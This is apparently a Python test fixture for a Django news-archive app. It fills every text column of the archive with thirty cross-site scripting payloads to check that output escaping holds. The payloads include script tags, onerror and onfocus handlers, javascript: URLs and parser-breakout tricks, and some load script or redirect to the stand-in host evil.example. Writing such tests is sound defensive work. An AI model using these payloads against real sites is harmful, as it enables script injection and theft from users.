"""Thirty texts with markup, and an archive that has them in every field."""

from __future__ import annotations

import datetime as dt
from collections.abc import Iterator, Sequence
from uuid import uuid4

from axes.models import AccessAttempt, AccessFailureLog, AccessLog
from django.apps import apps
from django.contrib.auth.models import Group, User
from django.db.models import CharField, JSONField, TextField
from django.utils import timezone

from articles import reader_reports
from articles.models import (
    Article,
    AuditEntry,
    CreditDecision,
    FailedSearch,
    Image,
    ImportBatch,
    ImportError,
    NameDecision,
    Notice,
    Quote,
    RawDocument,
    Report,
    Role,
    RuleSwitch,
    Speaker,
    SuggestedSearch,
    Unsaved,
)
from articles.revisions import change_text
from tests.addresses import Examples
from tests.factories import (
    make_article,
    make_publication,
    make_quote,
    make_section,
    make_speaker,
    make_topic,
    make_turn,
)

# Each says «pwn» and, where it is let through, calls a dialog, fetches from evil.example or leaves a node.
PAYLOADS = (
    "<script>alert('pwn')</script>",
    '"><script src=//evil.example/pwn.js></script>',
    "'><img src=x onerror=alert(1) pwn>",
    "<svg/onload=alert(1) pwn>",
    "<svg><script>alert&#40;'pwn')</script></svg>",
    "</title><p pwn>",
    "</textarea><p pwn>",
    "</script><script>alert('pwn')</script>",
    "--><p pwn>",
    "]]><p pwn>",
    "<iframe src=javascript:alert('pwn')>",
    "<a href=javascript:alert(1) pwn>x</a>",
    '" autofocus onfocus=alert(1) pwn="',
    "' onmouseover=alert(1) pwn='",
    "<style pwn>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/pwn.css>",
    "<base href=//evil.example/pwn/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/pwn>",
    "<form action=//evil.example/pwn><button pwn>",
    "<object data=//evil.example/pwn></object>",
    "<math><mtext><img src=x onerror=alert(1) pwn>",
    "<details open ontoggle=alert(1) pwn>",
    "<input onfocus=alert(1) autofocus pwn>",
    "<video><source onerror=alert(1) pwn>",
    "&lt;img src=x onerror=alert(1) pwn&gt;",
    "&#60;script&#62;alert('pwn')&#60;/script&#62;",
    '<img alt="`" src=x onerror=alert(1) pwn><p title="`">',
    "\\u003cscript\\u003ealert('pwn')\\u003c/script\\u003e",
    '<noscript><p title="</noscript><img src=x onerror=alert(1) pwn>">',
    "</option></select></template><embed src=//evil.example/pwn>",
)
BODY = (
    "The {which} siren.\n\nThe siren {text} rang.\n\n“We said {text} to the siren,” said {name}.\n\n"
    "“That is what {text} is,” said {name}."
)
# For the shortest fields.
SHORT = "<b pwn>"


def fit(payloads: Sequence[str], length: int, *, before: str = "") -> str:
    """As many of them in a row as a field of this length takes."""
    text = before
    for payload in payloads:
        if len(text) + len(payload) + 1 <= length:
            text = f"{text} {payload}".strip()
    return text if "pwn" in text else f"{before}{SHORT}"


def fill(payloads: Sequence[str], number: int, editor: User) -> Examples:
    """One row of everything, each of its texts made of these."""
    text, name = " ".join(payloads), fit(payloads, 450)
    url = f"https://courier.example/{number}?{fit(payloads, 900)}".replace(" ", "/")
    slugs = {first: f"{first}-{number}" for first in ("speakers", "publications", "sections", "topics")}
    paper = make_publication(name, slug=slugs["publications"], homepage=url, rights=text)
    fields = {"sort_name": name, "description": fit(payloads, 900), "same_as": url}
    speaker = make_speaker(f"Ada {name}", slug=slugs["speakers"], aliases=(f"A. {name}",), **fields)
    Role.objects.create(
        speaker=speaker, title=fit(payloads, 290), organisation=fit(payloads, 290), since=dt.date(2016, 7, 1)
    )
    plain = {"publication": paper, "section": make_section(name, slug=slugs["sections"])}
    texts = {"kicker": name, "standfirst": text, "dateline": name, "byline": f"By {name}"}
    urls = {"source_url": url, "archived_url": url}
    public, draft, _ = (
        make_article(
            headline=f"Siren {name}", body=BODY.format(text=text, name=speaker.name, which=which),
            canonical_url=f"{url}/{which}", external_id=fit(payloads, 240, before=which), status=which,
            authors=(speaker,), captions=(text,), topics=(make_topic(name, slug=slugs["topics"]),),
            edition=fit(payloads, 95), page=fit(payloads, 45), extra={fit(payloads, 90): text},
            withheld_reason=text if which == "withheld" else "", **plain, **texts, **urls,
        )
        for which in ("usable", "draft", "withheld")
    )  # fmt: skip
    undated = make_article(headline=name, published_on=None, **plain, **texts)
    Image.objects.update(credit=name, url=url)
    rows = {
        "article": draft, "quote": _propose(draft, payloads), "speaker": speaker, **plain,
        "topic": make_topic(slug=slugs["topics"]), **_fill_the_desk(draft, payloads, number, editor, speaker),
    }  # fmt: skip
    found = _quote(
        public, payloads, f"We said {text} to the siren,", speaker=speaker, decided_by=editor,
        decided_at=timezone.now(), standing="disputed",
    )  # fmt: skip
    rows["notice"] = Notice.objects.create(article=public, kind="correction", whose="ours", text=text)
    Notice.objects.create(quote=found, kind="clarification", whose="the paper's", text=text)
    token = reader_reports.receive(found, "words", text, reader_reports.new_token())
    rows["report"] = reader_reports.found_by(token)
    answered = reader_reports.found_by(
        reader_reports.receive(public, "date", text, reader_reports.new_token())
    )
    Report.objects.filter(pk=answered.pk).update(
        outcome="refused", reason=text, decided_by=editor, decided_at=timezone.now(), decision=uuid4()
    )
    change_text(public, standfirst=f"{text} Changed.")
    public.refresh_from_db()
    return Examples(rows, public, undated, found, token, slugs)


def _quote(article: Article, payloads: Sequence[str], words: str, **more) -> Quote:
    long = fit(payloads, 900)
    fields = {
        "source": long, "cue": fit(payloads, 450), "role_as_printed": long, "name_as_printed": long,
        "said_as_printed": fit(payloads, 190), "rule": fit(payloads, 60), "confidence": 0.7,
        "original_url": article.source_url,
    }  # fmt: skip
    return make_quote(article, words, **{**fields, **more})


def _propose(draft: Article, payloads: Sequence[str]) -> Quote:
    text = " ".join(payloads)
    rang = f"The siren {text} rang."
    turn = make_turn(draft, rang, "answer", source=fit(payloads, 450), confidence=0.7)
    _quote(draft, payloads, rang, kind="answer", turn=turn, status="pending")
    return _quote(draft, payloads, f"We said {text} to the siren,", status="pending", position=1)


def _fill_the_desk(
    draft: Article, payloads: Sequence[str], number: int, editor: User, speaker: Speaker
) -> dict:
    text, now = " ".join(payloads), {"decided_by": editor, "decided_at": timezone.now()}
    batch = ImportBatch.objects.create(source=fit(payloads, 1900), options={"map": text})
    wrong = {"column": fit(payloads, 190), "value": text, "reason": fit(payloads, 950)}
    ImportError.objects.create(batch=batch, row=1, **wrong)
    draft.import_batch = batch
    draft.save()
    Unsaved.objects.create(article=draft, user=editor, fields={"headline": [text]}, kept_at=timezone.now())
    AuditEntry.objects.create(
        who=fit(payloads, 145), through=fit(payloads, 40), kind="add", about=fit(payloads, 40), what=text
    )  # fmt: skip
    CreditDecision.objects.create(
        key=number, words=fit(payloads, 290), one=speaker, other=make_speaker(f"Ada {number}"), **now
    )
    NameDecision.objects.create(name=fit(payloads, 950), meaning="speaker", speaker=speaker, **now)
    RuleSwitch.objects.create(rule=fit(payloads, 60), publication=draft.publication, **now)
    words = fit(payloads, 190, before=f"dike {number}")
    FailedSearch.objects.create(kind="articles", words=words, day=dt.date(2024, 5, 30), times=9)
    leads_to = f"/search/?q={fit(payloads, 900)}"
    SuggestedSearch.objects.create(kind="articles", words=words, leads_to=leads_to, note=fit(payloads, 290))
    tried = {
        "username": fit(payloads, 250), "ip_address": "192.0.2.9", "user_agent": fit(payloads, 250),
        "path_info": fit(payloads, 250), "http_accept": fit(payloads, 1000),
    }  # fmt: skip
    return {
        "importbatch": batch,
        "rawdocument": RawDocument.objects.create(
            article=draft, bytes=text.encode(), media_type=fit(payloads, 95), origin=fit(payloads, 1900)
        ),
        "user": User.objects.create_user(fit(payloads, 145), first_name=fit(payloads, 145), email=SHORT),
        "group": Group.objects.create(name=fit(payloads, 140)),
        "accessattempt": AccessAttempt.objects.create(
            failures_since_start=1, get_data=text, post_data=text, **tried
        ),
        "accesslog": AccessLog.objects.create(**tried),
        "accessfailurelog": AccessFailureLog.objects.create(locked_out=False, **tried),
    }


def rounds(number: int) -> Iterator[tuple[str, ...]]:
    """All thirty in so many parts."""
    for start in range(number):
        yield PAYLOADS[start::number]


def unfilled() -> set[str]:
    """The columns of text, of all tables of the archive, in which no payload stands."""
    found = set()
    for model in apps.get_app_config("articles").get_models():
        for column in model._meta.concrete_fields:
            of_text = isinstance(column, (CharField, TextField, JSONField)) and not column.choices
            if of_text and not model.__name__.endswith("Event"):
                values = model._default_manager.values_list(column.name, flat=True)
                if not any("pwn" in str(value) for value in values):
                    found.add(f"{model.__name__}.{column.name}")
    return found
